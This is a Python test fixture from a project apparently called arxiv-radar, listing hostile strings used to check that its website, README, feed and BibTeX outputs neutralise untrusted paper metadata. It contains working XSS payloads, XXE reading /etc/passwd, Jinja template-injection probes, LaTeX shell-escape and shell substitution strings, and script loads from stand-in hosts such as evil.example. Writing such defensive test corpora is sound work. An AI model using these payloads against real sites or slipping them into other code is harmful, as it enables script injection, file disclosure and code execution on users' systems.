"""One corpus of hostile text, for every output arxiv-radar writes.

Everything arXiv or an LLM hands us is untrusted: a title, an author list, an abstract, a DOI,
a journal reference, a licence, a model's summary. :data:`PAYLOADS` collects what such text
may hold to attack a reader of our outputs (a browser opening the site, GitHub rendering the
README, a feed reader, a BibTeX tool, a template engine): script tags in many spellings,
``javascript:``/``data:``/``vbscript:`` URLs (obfuscated with entities, whitespace and
invisible characters), event handlers, SVG and MathML vectors, Markdown link, image,
reference-link and autolink injection, HTML comments and CDATA, control characters and NUL,
very long strings, bidi overrides, zero-width characters, XML entity tricks, ``]]>`` and
template syntax.

The end-to-end test (``test_hostile_run.py``) puts them into an rss.arxiv.org listing (XML
escaped, as arXiv would) and into the answers of an OpenAI-compatible server, runs the real
``arxiv-radar run``, and inspects every file written.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

__all__ = [
    "BIDI_CONTROLS",
    "PAYLOADS",
    "PAYLOAD_HOSTS",
    "TEMPLATE_MARKERS",
    "Payload",
    "by_group",
    "xml_safe",
]

PAYLOAD_HOSTS = ("evil.example", "attacker.example")
"""Hosts the payloads point images, scripts and styles at: no output may load from them."""

BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
"""Unicode bidi embedding, override and isolate controls (and the directional marks)."""

ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff"

TEMPLATE_MARKERS = ("{{ 7*7 }}", "{{7*'7'}}", "${7*7}", "{% raw %}")
"""Template expressions whose evaluation would show as 49 or 7777777: they must stay text."""


@dataclass(frozen=True)
class Payload:
    name: str
    group: str
    text: str


def _p(group: str, name: str, text: str) -> Payload:
    return Payload(name=name, group=group, text=text)


_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

PAYLOADS: tuple[Payload, ...] = (
    # -- script tags in many spellings --------------------------------------------------------
    _p("script", "plain", "<script>alert('xss')</script>"),
    _p("script", "mixed case", "<ScRiPt>alert(1)</sCrIpT>"),
    _p("script", "src", '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>'),
    _p("script", "slash attr", "<script/xss src=//evil.example/x.js></script>"),
    _p("script", "nested split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    _p("script", "double open", "<<script>alert(1);//<</script>"),
    _p("script", "newline in tag", "<script\n>alert(1)</script\n>"),
    _p("script", "unclosed", "<script>alert(1)"),
    _p("script", "breakout title", "</title><script>alert(1)</script>"),
    _p("script", "breakout textarea", "</textarea></style></noscript><script>alert(1)</script>"),
    _p("script", "breakout json", '"};</script><script>alert(1)</script>'),
    _p("script", "noscript trick", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    _p("script", "style import", "<style>@import 'https://evil.example/x.css';</style>"),
    _p("script", "iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    _p("script", "iframe srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'),
    _p("script", "object data", f'<object data="data:text/html;base64,{_B64_SCRIPT}"></object>'),
    _p("script", "embed", '<embed src="https://evil.example/x.swf">'),
    _p("script", "meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    _p("script", "base href", '<base href="https://evil.example/">'),
    _p("script", "form action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    _p("script", "link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    # -- URLs --------------------------------------------------------------------------------
    _p("url", "javascript", '<a href="javascript:alert(1)">link</a>'),
    _p("url", "javascript case", '<a href="JaVaScRiPt:alert(1)">link</a>'),
    _p("url", "javascript tab", '<a href="java\tscript:alert(1)">link</a>'),
    _p("url", "javascript entity tab", '<a href="jav&#x09;ascript:alert(1)">link</a>'),
    _p("url", "javascript entity j", '<a href="&#106;avascript:alert(1)">link</a>'),
    _p("url", "javascript hex entity", '<a href="&#x6A;&#x61;vascript:alert(1)">link</a>'),
    _p("url", "javascript colon entity", '<a href="javascript&colon;alert(1)">link</a>'),
    _p("url", "javascript leading space", '<a href=" \tjavascript:alert(1)">link</a>'),
    _p("url", "data html", f'<a href="data:text/html;base64,{_B64_SCRIPT}">link</a>'),
    _p("url", "vbscript", '<a href="vbscript:msgbox(1)">link</a>'),
    _p("url", "bare javascript", "javascript:alert(document.cookie)"),
    # -- event handlers ------------------------------------------------------------------------
    _p("event", "img onerror", '<img src=x onerror="alert(1)">'),
    _p("event", "img slashes", "<img/src/onerror=alert(1)>"),
    _p("event", "img upper", "<IMG SRC=x ONERROR='alert(1)'>"),
    _p("event", "body onload", "<body onload=alert(1)>"),
    _p("event", "div mouseover", '<div onmouseover="alert(1)">hover</div>'),
    _p("event", "details ontoggle", "<details open ontoggle=alert(1)>"),
    _p("event", "input autofocus", "<input autofocus onfocus=alert(1)>"),
    _p("event", "video source", "<video><source onerror=alert(1)></video>"),
    _p("event", "attribute breakout", '" onmouseover="alert(1)" x="'),
    _p("event", "single quote breakout", "' onfocus='alert(1)' autofocus='"),
    # -- SVG and MathML --------------------------------------------------------------------------
    _p("svg", "svg onload", '<svg onload="alert(3)"></svg>'),
    _p("svg", "svg slash", "<svg/onload=alert(1)>"),
    _p("svg", "svg script", "<svg><script>alert(1)</script></svg>"),
    _p("svg", "svg xlink", '<svg><a xlink:href="javascript:alert(1)"><text>click</text></a></svg>'),
    _p("svg", "svg animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    _p("svg", "math href", '<math href="javascript:alert(1)">click</math>'),
    _p(
        "svg",
        "math mglyph",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    ),
    # -- Markdown injection ----------------------------------------------------------------------
    _p("markdown", "link javascript", "[click me](javascript:alert(1))"),
    _p("markdown", "link javascript upper", "[click](JAVASCRIPT:alert(1))"),
    _p("markdown", "link angle", "[click](<javascript:alert(1)>)"),
    _p("markdown", "link entity", "[click](&#106;avascript:alert(1))"),
    _p("markdown", "link entity tab", "[click](jav&#x09;ascript:alert(1))"),
    _p("markdown", "link escaped colon", "[click](javascript\\:alert(1))"),
    _p("markdown", "link data", f"[click](data:text/html;base64,{_B64_SCRIPT})"),
    _p("markdown", "link vbscript", "[click](vbscript:msgbox(1))"),
    _p("markdown", "link title breakout", '[x](https://ok.example "a\\" onmouseover=alert(1) x=")'),
    _p("markdown", "image", "![pixel](https://evil.example/track.png)"),
    _p("markdown", "image in link", "[![img](https://evil.example/i.png)](https://evil.example)"),
    _p("markdown", "image onerror", '![x](https://evil.example/x.png"onerror="alert(1))'),
    _p("markdown", "reference link", "[click][ref]\n\n[ref]: javascript:alert(1)"),
    _p("markdown", "reference image", "![pixel][img]\n\n[img]: https://evil.example/p.png"),
    _p("markdown", "reference angle", "[x][r]\n\n[r]: <javascript:alert(1)> 'title'"),
    _p("markdown", "autolink javascript", "<javascript:alert(1)>"),
    _p("markdown", "autolink data", "<data:text/html,<script>alert(1)</script>>"),
    _p("markdown", "autolink mail", "<mailto:victim@evil.example?subject=x>"),
    _p("markdown", "heading and rule", "\n# Injected heading\n\n---\n\n> quote\n"),
    _p("markdown", "table break", "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |"),
    _p("markdown", "code fence", "```\n</details><script>alert(1)</script>\n```"),
    _p("markdown", "inline html details", "</details></summary><script>alert(1)</script>"),
    _p("markdown", "emphasis soup", "]] *bold* <b>`code`</b> | pipe # heading ~~s~~ $x$ _u_"),
    _p("markdown", "mention", "@everyone @here look"),
    # -- HTML comments and CDATA -----------------------------------------------------------------
    _p("comment", "comment script", "<!-- <script>alert(1)</script> -->"),
    _p("comment", "short comment", "<!--><script>alert(1)</script>-->"),
    _p("comment", "comment close", "--><script>alert(1)</script><!--"),
    _p("comment", "cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    _p("comment", "cdata end", "]]><script>alert(1)</script>"),
    _p("comment", "processing instruction", "<?php system('id'); ?><?xml-stylesheet href='x'?>"),
    # -- control characters and NUL (XML cannot carry them: LLM answers only) ---------------------
    _p("control", "nul", "before\x00<script>alert(1)</script>\x00after"),
    _p("control", "c0 controls", "a\x01b\x02c\x07d\x08e\x0bf\x0cg\x1bh\x7fi"),
    _p("control", "ansi escape", "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J"),
    _p("control", "c1 controls", "x\x85y\x9bz"),
    _p("control", "crlf header", "line\r\nX-Injected: 1\r\n\r\n<script>alert(1)</script>"),
    _p("control", "nul in javascript", "[x](java\x00script:alert(1))"),
    # -- Unicode tricks --------------------------------------------------------------------------
    _p("unicode", "rtl override", "Safe \u202eexe.fdp\u202c title"),
    _p("unicode", "all bidi", f"bidi {BIDI_CONTROLS} controls"),
    _p("unicode", "zero width", f"ze{ZERO_WIDTH}ro width"),
    _p("unicode", "zero width javascript", "[x](java\u200bscript:alert(1))"),
    _p("unicode", "zero width tag", "<scr\u200bipt>alert(1)</scr\u200bipt>"),
    _p("unicode", "fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    _p("unicode", "line separators", "a\u2028b\u2029c"),
    _p("unicode", "noncharacters", "x\ufffey\uffffz"),
    _p("unicode", "astral", "\U0001f4a9 \U000e0041 tag chars"),
    # -- XML entity tricks -----------------------------------------------------------------------
    _p("xml", "escaped script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    _p("xml", "double escaped", "&amp;lt;img src=x onerror=alert(1)&amp;gt;"),
    _p("xml", "numeric refs", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    _p("xml", "hex refs", "&#x3C;svg onload=alert(1)&#x3E;"),
    _p("xml", "doctype xxe", '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;'),
    _p("xml", "entity reference", "&xxe; &lol9; &nbsp; &unknown;"),
    _p("xml", "billion laughs", '<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">&lol2;'),
    # -- template syntax -------------------------------------------------------------------------
    _p("template", "jinja expression", "{{ 7*7 }} {{7*'7'}}"),
    _p("template", "jinja ssti", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    _p("template", "jinja config", "{{ config }} {{ self.__init__.__globals__ }}"),
    _p("template", "jinja statement", "{% for x in range(10**9) %}x{% endfor %}"),
    _p("template", "jinja raw", "{% raw %}{{ x }}{% endraw %} {# comment #}"),
    _p("template", "old placeholders", "{{PAPERS_SECTION}} {{LAST_UPDATED}} {{KEYWORDS}}"),
    _p("template", "shell and js", "${7*7} #{7*7} $(id) `id`"),
    # -- BibTeX and LaTeX ------------------------------------------------------------------------
    _p("bibtex", "brace breakout", "x}, note = {pwned}, title = {y"),
    _p("bibtex", "unbalanced braces", "}}}{{{ \\}{ %comment"),
    _p("bibtex", "latex commands", "\\input{/etc/passwd} \\write18{id} \\def\\x{y}"),
    _p("bibtex", "at entry", "@misc{evil, title={x}}"),
    # -- very long strings -------------------------------------------------------------------------
    _p("long", "100k letters", "A" * 100_000),
    _p("long", "100k scripts", "<script>alert(1)</script>" * 4_000),
    _p("long", "100k brackets", "[" * 100_000),
    _p("long", "100k stars", "*a" * 50_000),
    _p("long", "100k links", "[x](javascript:alert(1))" * 4_200),
    _p("long", "100k angle", "<" * 100_000),
    _p("long", "100k backticks", "`" * 100_000),
)
"""Every hostile string, named and grouped (names are unique)."""

# Characters XML 1.0 cannot carry, even as character references: arXiv cannot send them.
_XML_INVALID = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def xml_safe(text: str) -> str:
    """``text`` without the characters XML 1.0 cannot represent (so it fits in a feed)."""
    return _XML_INVALID.sub("", text)


def by_group(group: str) -> tuple[Payload, ...]:
    return tuple(payload for payload in PAYLOADS if payload.group == group)


assert len({payload.name for payload in PAYLOADS}) == len(PAYLOADS), "payload names are unique"
